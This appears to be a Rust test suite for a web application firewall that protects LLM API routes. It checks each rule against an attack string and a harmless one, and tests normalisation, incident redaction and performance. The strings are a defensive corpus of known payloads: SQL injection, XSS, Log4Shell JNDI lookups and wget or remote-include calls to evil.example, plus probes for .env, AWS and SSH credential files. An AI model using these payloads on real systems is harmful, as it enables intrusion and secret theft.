//! Request firewall tests: per-rule positives and negatives, the benign LLM
//! traffic suite (zero blocks), incident fields, and property tests (no
//! panics, bounded time on pathological input).

use std::path::Path;
use std::time::{Duration, Instant};

use moltguard::firewall::normalize::{self, Normalized};
use moltguard::firewall::{Category, Firewall, FirewallConfig, RequestView, Verdict};
use proptest::prelude::*;

fn fw() -> Firewall {
    Firewall::new(FirewallConfig::default()).expect("firewall builds")
}

/// A request as a typical HTTP client sends it.
fn get(target: &str) -> RequestView {
    RequestView::new("GET", target)
        .header("Host", "localhost")
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
        .header("Accept", "*/*")
}

fn post_form(target: &str, body: &str) -> RequestView {
    RequestView::new("POST", target)
        .header("Host", "localhost")
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
        .header("Accept", "*/*")
        .header("Content-Type", "application/x-www-form-urlencoded")
        .header("Content-Length", body.len().to_string())
        .body(body.to_string())
}

fn rule_ids(fw: &Firewall, req: &RequestView) -> Vec<u32> {
    match fw.inspect(req) {
        Verdict::Block(b) => b.matches.iter().map(|m| m.rule_id).collect(),
        Verdict::Allow => Vec::new(),
    }
}

/// (rule id, attack query value, harmless query value)
const QUERY_CASES: &[(u32, &str, &str)] = &[
    (930100, "../../../etc/hosts", "reports/2024/q1.pdf"),
    (930100, "..%252f..%252fetc%252fhosts", "100%25 done"),
    (930120, "/etc/passwd", "/api/users"),
    (
        931100,
        "http://192.168.1.10/shell.txt",
        "https://example.com/callback",
    ),
    (
        931120,
        "http://evil.example/shell.txt?",
        "https://example.com/a?b=c",
    ),
    (932100, "x;uname -a", "cats and dogs; a story"),
    (932100, "x;bash -i", "x;cat notes.txt"),
    (
        932105,
        ";wget http://evil.example/x.sh",
        "wget is a download tool",
    ),
    (932110, "x & cmd /c dir", "cmd is short for command"),
    (
        932120,
        "Invoke-WebRequest http://x/a.ps1",
        "invoke the web request later",
    ),
    (932130, "$(id)", "price $5 (approx)"),
    (
        932140,
        "for %G in (a b) do echo %G",
        "for each in the list do something",
    ),
    (932160, "x /bin/sh -c id", "bin collection"),
    (932170, "() { :; }; echo vulnerable", "(see above) {note}"),
    (932175, "alias x=whoami", "my alias is bob"),
    (932200, "/e??/p?ss??", "what? why?"),
    (932235, "x;id", "identifier"),
    (932250, "x;bash -c 'id'", "bash is a shell"),
    (932270, "~+", "~user"),
    (932280, "{cat,/etc/hosts}", "{1,5}"),
    (932330, "!-1", "wow!"),
    (933100, "<?php echo 1; ?>", "<?xml version=\"1.0\"?>"),
    (933120, "allow_url_include=1", "include more data"),
    (933130, "$_GET['x']", "get the x"),
    (933140, "php://filter/resource=index", "php is a language"),
    (933150, "system('id')", "the system is down"),
    (933170, "O:8:\"stdClass\":0:{}", "O: 8 items"),
    (
        934100,
        "require('child_process').exec('id')",
        "a child process",
    ),
    (
        934110,
        "http://169.254.169.254/latest/meta-data/",
        "http://example.com/latest",
    ),
    (934130, "__proto__", "prototype"),
    (934180, "{{config.items()}}", "{{ name }}"),
    (941100, "<script>alert(1)</script>", "<b>bold</b>"),
    (941100, "<img src=x onerror=alert(1)>", "<i>logo</i>"),
    (941170, "javascript:alert(1)", "java script tutorial"),
    (941390, "alert(1)", "alerting is fine"),
    (942100, "1 OR 1=1", "1 apple"),
    (942100, "admin' --", "O'Reilly"),
    (
        942140,
        "information_schema.tables",
        "information about schemas",
    ),
    (942160, "sleep(5)", "sleep well"),
    (
        942190,
        "1 UNION SELECT password FROM users",
        "union station",
    ),
    (942290, "[$ne]", "[new]"),
    (942350, "1; DROP TABLE users", "drop me a line"),
    (943100, "document.cookie=\"x=1\"", "cookie recipe"),
    (944100, "java.lang.Runtime", "java language runtime"),
    (944130, "java.io.FileInputStream", "file input stream"),
    (944150, "${jndi:ldap://evil.example/a}", "$5 {approx}"),
    (
        944150,
        "${${lower:j}ndi:ldap://evil.example/a}",
        "lower the price",
    ),
];

fn q(v: &str) -> String {
    let mut s = String::from("/search?q=");
    for b in v.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s
}

#[test]
fn query_rules_positive_and_negative() {
    let fw = fw();
    let mut failures = Vec::new();
    for (id, attack, benign) in QUERY_CASES {
        let hit = rule_ids(&fw, &get(&q(attack)));
        if !hit.contains(id) {
            failures.push(format!("{id} missed {attack:?} (got {hit:?})"));
        }
        let ok = fw.inspect(&get(&q(benign)));
        if ok.is_block() {
            failures.push(format!("{id}: benign {benign:?} blocked: {ok:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn method_allow_list() {
    let fw = fw();
    assert!(rule_ids(&fw, &get("/").clone_with_method("PROPFIND")).contains(&911100));
    assert!(!fw.inspect(&get("/v1/models")).is_block());
    assert!(!fw
        .inspect(&get("/").clone_with_method("OPTIONS"))
        .is_block());
}

trait WithMethod {
    fn clone_with_method(&self, m: &str) -> RequestView;
}
impl WithMethod for RequestView {
    fn clone_with_method(&self, m: &str) -> RequestView {
        let mut r = self.clone();
        r.method = m.to_string();
        r
    }
}

#[test]
fn scanner_user_agents() {
    let fw = fw();
    let r = RequestView::new("GET", "/")
        .header("Host", "x")
        .header("Accept", "*/*")
        .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
    assert!(rule_ids(&fw, &r).contains(&913100));
    for ua in [
        "OpenAI/Python 1.54.3",
        "curl/8.5.0",
        "node-fetch",
        "python-httpx/0.27.0",
    ] {
        let r = RequestView::new("GET", "/v1/models")
            .header("Host", "x")
            .header("Accept", "*/*")
            .header("User-Agent", ua);
        assert!(!fw.inspect(&r).is_block(), "{ua}");
    }
}

#[test]
fn protocol_rules() {
    let fw = fw();
    // Malformed request line.
    let mut r = get("/");
    r.target = "no-slash".into();
    assert!(rule_ids(&fw, &r).contains(&920100));
    // CL + TE: a warning, as in CRS (the server frames by Transfer-Encoding);
    // it blocks together with another smuggling sign.
    let r = post_form("/x", "a=b").header("Transfer-Encoding", "chunked");
    assert!(!fw.inspect(&r).is_block());
    let r = get("/")
        .header("Content-Length", "3")
        .header("Transfer-Encoding", "chunked");
    assert!(rule_ids(&fw, &r).contains(&920181));
    // Non-numeric Content-Length.
    let r = get("/").header("Content-Length", "1x");
    assert!(rule_ids(&fw, &r).contains(&920160));
    // CR/LF inside a header value.
    let r = get("/").header("X-Foo", "a\r\nSet-Cookie: x=1");
    assert!(rule_ids(&fw, &r).contains(&921140));
    // Too many headers.
    let mut r = get("/");
    for i in 0..150 {
        r = r.header(format!("X-H{i}"), "v");
    }
    assert!(rule_ids(&fw, &r).contains(&920490));
    // Response splitting in an argument.
    assert!(rule_ids(&fw, &get("/?x=a%0d%0aSet-Cookie:%20s=1")).contains(&921120));
    // Disallowed content type.
    let r = post_form("/x", "a=b").header("Content-Type", "application/octet-stream");
    let mut r2 = r.clone();
    r2.headers.retain(|(n, v)| {
        !(n == "Content-Type" && v.as_slice() == b"application/x-www-form-urlencoded")
    });
    assert!(rule_ids(&fw, &r2).contains(&920420));
    // Restricted header.
    assert!(rule_ids(&fw, &get("/").header("X-HTTP-Method-Override", "DELETE")).contains(&920450));
    // Negatives: an ordinary form post and an ordinary GET.
    assert!(!fw
        .inspect(&post_form("/login", "user=alice&remember=1"))
        .is_block());
    assert!(!fw
        .inspect(&get("/v1/models?limit=20&after=model-1"))
        .is_block());
}

#[test]
fn secret_and_agent_config_probes() {
    let fw = fw();
    for p in [
        "/.env",
        "/.git/config",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.clawdbot/config.json",
        "/.openclaw/",
        "/.moltbot/settings",
        "/backup.sql.gz",
        "/config.php.bak",
        "/static/../.env",
        "/%2e%65nv",
    ] {
        let v = fw.inspect(&get(p));
        let Verdict::Block(b) = v else {
            panic!("{p} allowed");
        };
        assert!(
            b.matches.iter().any(|m| matches!(
                m.category,
                Category::SecretProbe | Category::Lfi | Category::Protocol
            )),
            "{p}: {b:?}"
        );
    }
    for p in [
        "/v1/models",
        "/environment",
        "/health",
        "/v1/chat/completions",
        "/docs/git-guide",
    ] {
        assert!(!fw.inspect(&get(p)).is_block(), "{p}");
    }
}

#[test]
fn session_fixation_needs_foreign_or_missing_referer() {
    let fw = fw();
    let r = get("/login?jsessionid=ABC").header("Referer", "http://evil.example/x");
    assert!(rule_ids(&fw, &r).contains(&943110));
    let r = get("/login?jsessionid=ABC").header("Referer", "http://localhost/app");
    assert!(!fw.inspect(&r).is_block());
}

#[test]
fn cookies_and_headers_are_inspected() {
    let fw = fw();
    let r = get("/").header("Cookie", "sid=1; pref=' OR 1=1 --");
    assert!(fw.inspect(&r).is_block());
    let r = get("/").header("X-Api-Version", "${jndi:ldap://x/a}");
    assert!(rule_ids(&fw, &r).contains(&944150));
    let r = get("/").header("Cookie", "theme=dark; lang=en-US");
    assert!(!fw.inspect(&r).is_block());
}

#[test]
fn incident_fields_are_complete_and_redacted() {
    let fw = fw();
    let ip: std::net::IpAddr = "203.0.113.7".parse().expect("ip");
    let r = get("/search?q=1%20UNION%20SELECT%20password%20FROM%20users&token=sk-proj-AAAABBBBCCCCDDDDEEEEFFFF1234")
        .client_ip(ip)
        .request_id("req-42");
    let Verdict::Block(b) = fw.inspect(&r) else {
        panic!("not blocked");
    };
    assert_eq!(b.client_ip, Some(ip));
    assert_eq!(b.request_id.as_deref(), Some("req-42"));
    assert!(b.score >= 5);
    assert_eq!(b.category, Category::Sqli);
    assert!(b.matched_field.starts_with("ARGS"), "{}", b.matched_field);
    assert!(b.redacted_excerpt.chars().count() <= moltguard::firewall::EXCERPT_MAX + 16);
    for m in &b.matches {
        assert!(!m.excerpt.contains("AAAABBBBCCCCDDDD"), "{}", m.excerpt);
    }
    // Secrets in sensitive headers are never echoed.
    let r = get("/x").header(
        "Authorization",
        "Bearer ${jndi:ldap://x/sk-proj-AAAABBBBCCCCDDDDEEEE}",
    );
    let Verdict::Block(b) = fw.inspect(&r) else {
        panic!("not blocked");
    };
    assert!(
        b.matches.iter().all(|m| !m.excerpt.contains("AAAABBBB")),
        "{b:?}"
    );
}

#[test]
fn disabled_firewall_allows_everything_and_strict_mode_raises_paranoia() {
    let off = Firewall::new(FirewallConfig {
        enabled: false,
        ..FirewallConfig::default()
    })
    .expect("fw");
    assert!(!off
        .inspect(&get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"))
        .is_block());
    let strict = FirewallConfig {
        strict: true,
        ..FirewallConfig::default()
    };
    assert_eq!(strict.effective_paranoia(), 2);
    let n1 = fw().rules().len();
    let n2 = Firewall::new(strict).expect("fw").rules().len();
    assert!(n2 > n1);
}

/// Paranoia 1 behaves like CRS at paranoia 1: shapes that CRS only flags at
/// paranoia 2 (common-word commands after a separator, a value that merely
/// starts with `bash -c`, backtick substitution, Oracle package calls,
/// `echo "..."`) pass at the default level and block at paranoia 2.
#[test]
fn paranoia_2_adds_what_crs_keeps_out_of_paranoia_1() {
    let pl1 = fw();
    let pl2 = Firewall::new(FirewallConfig {
        paranoia: 2,
        ..FirewallConfig::default()
    })
    .expect("fw");
    for (id, value) in [
        (932102, "x;vi -c:!id"),
        (932102, "x;cut -d: -f1 notes"),
        (932103, "bash -c \"echo hi\""),
        (932132, "`cut a``dig b`"),
        (942153, "x||dbms_pipe.receive_message('a',10)"),
    ] {
        let req = get(&q(value));
        assert!(!pl1.inspect(&req).is_block(), "PL1 blocked {value:?}");
        assert!(
            rule_ids(&pl2, &req).contains(&id),
            "PL2 missed {id} on {value:?}: {:?}",
            pl2.inspect(&req)
        );
    }
}

#[test]
fn every_rule_is_documented() {
    let all = moltguard::firewall::rules::all();
    let mut ids: Vec<u32> = all.iter().map(|r| r.id).collect();
    ids.sort_unstable();
    let n = ids.len();
    ids.dedup();
    assert_eq!(n, ids.len(), "duplicate rule ids");
    for r in &all {
        assert!((1..=4).contains(&r.paranoia), "{}", r.id);
        assert!(r.description.len() > 12, "{} lacks a description", r.id);
    }
}

// ---- LLM body policy -------------------------------------------------------

#[derive(serde::Deserialize)]
struct Fixture {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: Option<serde_json::Value>,
}

fn load_fixture(p: &Path) -> RequestView {
    let text = std::fs::read_to_string(p).expect("read fixture");
    let f: Fixture = serde_json::from_str(&text).expect("parse fixture");
    let mut r = RequestView::new(f.method, f.path);
    for (k, v) in f.headers {
        r = r.header(k, v);
    }
    if let Some(b) = f.body {
        let body = serde_json::to_vec(&b).expect("json");
        r = r
            .header("Content-Length", body.len().to_string())
            .body(body);
    }
    r
}

#[test]
fn benign_llm_suite_has_zero_blocks() {
    let fw = fw();
    let strict = Firewall::new(FirewallConfig {
        strict: true,
        ..FirewallConfig::default()
    })
    .expect("fw");
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/firewall_benign");
    let mut n = 0;
    let mut blocked = Vec::new();
    let mut paths: Vec<_> = std::fs::read_dir(&dir)
        .expect("fixtures")
        .flatten()
        .map(|e| e.path())
        .collect();
    paths.sort();
    for p in paths {
        if p.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let r = load_fixture(&p);
        n += 1;
        for (name, fw) in [("default", &fw), ("strict", &strict)] {
            if let Verdict::Block(b) = fw.inspect(&r) {
                blocked.push(format!("{} ({name}): {:?}", p.display(), b.matches));
            }
        }
    }
    assert!(n >= 12, "benign suite too small: {n}");
    assert!(
        blocked.is_empty(),
        "benign LLM requests blocked:\n{}",
        blocked.join("\n")
    );
}

#[test]
fn llm_routes_validate_structure_but_not_content() {
    let fw = fw();
    let chat = |body: &str| {
        RequestView::new("POST", "/v1/chat/completions")
            .header("Host", "localhost")
            .header("User-Agent", "OpenAI/Python 1.54.3")
            .header("Accept", "application/json")
            .header("Content-Type", "application/json")
            .header("Content-Length", body.len().to_string())
            .body(body.to_string())
    };
    // Attack-looking content is model input: allowed.
    assert!(!fw
        .inspect(&chat(
            r#"{"model":"m","messages":[{"role":"user","content":"' OR 1=1 -- <script>"}]}"#
        ))
        .is_block());
    // Broken JSON, wrong types, non-object bodies: blocked.
    assert!(rule_ids(&fw, &chat(r#"{"model":"m","messages":[{"role":"user""#)).contains(&946100));
    assert!(rule_ids(&fw, &chat(r#"[1,2,3]"#)).contains(&946110));
    assert!(rule_ids(&fw, &chat(r#"{"model":42,"messages":[]}"#)).contains(&946120));
    assert!(rule_ids(&fw, &chat(r#"{"model":"m","messages":"hi"}"#)).contains(&946120));
    assert!(
        rule_ids(&fw, &chat(r#"{"model":"m","messages":[],"stream":"yes"}"#)).contains(&946120)
    );
    let deep = format!(
        "{{\"model\":\"m\",\"x\":{}{}}}",
        "[".repeat(100),
        "]".repeat(100)
    );
    assert!(fw.inspect(&chat(&deep)).is_block());
    // Non-model-input fields are still inspected.
    assert!(fw
        .inspect(&chat(
            r#"{"model":"m' UNION SELECT password FROM users--","messages":[]}"#
        ))
        .is_block());
    assert!(fw
        .inspect(&chat(
            r#"{"model":"m","messages":[],"user":"${jndi:ldap://x/a}"}"#
        ))
        .is_block());
    // The same content on a non-LLM route is inspected.
    let other = RequestView::new("POST", "/admin/notes")
        .header("Host", "localhost")
        .header("User-Agent", "x")
        .header("Accept", "*/*")
        .header("Content-Type", "application/json")
        .header("Content-Length", "40")
        .body(r#"{"note":"<script>alert(1)</script>"}"#);
    assert!(fw.inspect(&other).is_block());
}

// ---- normaliser ------------------------------------------------------------

#[test]
fn normaliser_undoes_evasions() {
    assert_eq!(normalize::canonical_text("%252e%252e%252f", false), "../");
    assert_eq!(
        normalize::canonical_text("%u003Cscript%u003E", false),
        "<script>"
    );
    assert_eq!(normalize::canonical_text("%c0%ae%c0%ae/", false), "../");
    assert_eq!(normalize::canonical_text("&#x3c;&#60;&lt;", false), "<<<");
    assert_eq!(normalize::canonical_text("a%00b", false), "ab");
    assert_eq!(normalize::canonical_text("ＳＥＬＥＣＴ", false), "select");
    assert_eq!(normalize::canonical_text("a+b", true), "a b");
    assert_eq!(normalize::resolve_path("/a/./b/../..\\..\\etc"), "/../etc");
    assert_eq!(
        normalize::sql_fold("union/**/select/*!50000 x*/"),
        "union select x "
    );
    assert_eq!(
        normalize::cmd_fold("c'a't \"/etc/pa\"ss\\wd"),
        "cat /etc/passwd"
    );
    let n = Normalized::of("%2E%2E%5Cwindows", false);
    assert_eq!(n.path(), "../windows");
}

fn within(limit: Duration, f: impl FnOnce()) -> Duration {
    let t = Instant::now();
    f();
    let d = t.elapsed();
    assert!(d < limit, "took {d:?} (limit {limit:?})");
    d
}

#[test]
fn pathological_inputs_are_bounded() {
    let fw = fw();
    let limit = if cfg!(debug_assertions) {
        Duration::from_secs(20)
    } else {
        Duration::from_secs(2)
    };
    let mb = 1 << 20;
    let inputs: Vec<String> = vec![
        "%25".repeat(mb / 3),
        "'".repeat(mb),
        "%u".repeat(mb / 2),
        "&#".repeat(mb / 2),
        "../".repeat(mb / 3),
        "/*".repeat(mb / 2),
        "<".repeat(mb),
        "a=b&".repeat(mb / 4),
        "${".repeat(mb / 2),
    ];
    for s in &inputs {
        within(limit, || {
            let _ = Normalized::of(s, true);
        });
        let r = post_form("/x", s);
        within(limit, || {
            let _ = fw.inspect(&r);
        });
        let mut g = get("/");
        g.target = format!("/?q={}", &s[..s.len().min(64 * 1024)]);
        within(limit, || {
            let _ = fw.inspect(&g);
        });
    }
}

#[test]
fn inspect_cost_grows_linearly() {
    let fw = fw();
    let unit = "%2527%20OR%20%27a%27%3D%27a&x=<scr%00ipt>&";
    let time = |n: usize| {
        let r = post_form("/x", &unit.repeat(n));
        let t = Instant::now();
        for _ in 0..3 {
            let _ = fw.inspect(&r);
        }
        t.elapsed()
    };
    let _ = time(200); // warm-up (lazy DFA states)
    let small = time(2_000);
    let large = time(16_000);
    // 8x the input: allow generous noise but reject quadratic (64x) growth.
    assert!(
        large < small * 24 + Duration::from_millis(50),
        "small {small:?}, large {large:?}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, .. ProptestConfig::default() })]

    #[test]
    fn normaliser_never_panics(s in "\\PC*", form in any::<bool>()) {
        let n = Normalized::of(&s, form);
        // Decoding never grows text beyond the %uXXXX expansion bound.
        prop_assert!(n.text.len() <= s.len() * 4 + 8);
    }

    #[test]
    fn normaliser_handles_encoding_soup(parts in proptest::collection::vec(
        prop_oneof![Just("%"), Just("%25"), Just("%u"), Just("%c0%ae"), Just("&#"), Just("&#x"),
                    Just(";"), Just("../"), Just("\\"), Just("/*"), Just("*/"), Just("'"),
                    Just("\0"), Just("+"), Just("%00"), Just("0"), Just("f"), Just("&lt;")],
        0..400)) {
        let s: String = parts.concat();
        let _ = Normalized::of(&s, true);
    }

    #[test]
    fn inspect_never_panics(method in "[A-Z ]{0,8}", target in "\\PC{0,200}",
                            hname in "[A-Za-z-]{0,20}", hval in proptest::collection::vec(any::<u8>(), 0..200),
                            body in proptest::collection::vec(any::<u8>(), 0..2000),
                            ct in prop_oneof![Just(""), Just("application/json"), Just("multipart/form-data; boundary=x"),
                                              Just("application/xml"), Just("application/x-www-form-urlencoded")],
                            llm in any::<bool>()) {
        let fw = fw_cached();
        let target = if llm { "/v1/chat/completions".to_string() } else { target };
        let mut r = RequestView::new(method, target).header(hname, hval).body(body);
        if !ct.is_empty() {
            r = r.header("Content-Type", ct);
        }
        let _ = fw.inspect(&r);
    }
}

fn fw_cached() -> &'static Firewall {
    static FW: std::sync::OnceLock<Firewall> = std::sync::OnceLock::new();
    FW.get_or_init(fw)
}

/// crates/waf/WAF.md's rule table is generated from the rules
/// (`MOLTGUARD_BLESS=1 cargo test --test firewall` rewrites it).
#[test]
fn the_rule_table_of_waf_md_is_the_code() {
    moltguard_test_support::golden::check_section(
        "crates/waf/WAF.md",
        "rules",
        &moltguard::firewall::rules::table_markdown(),
    );
}
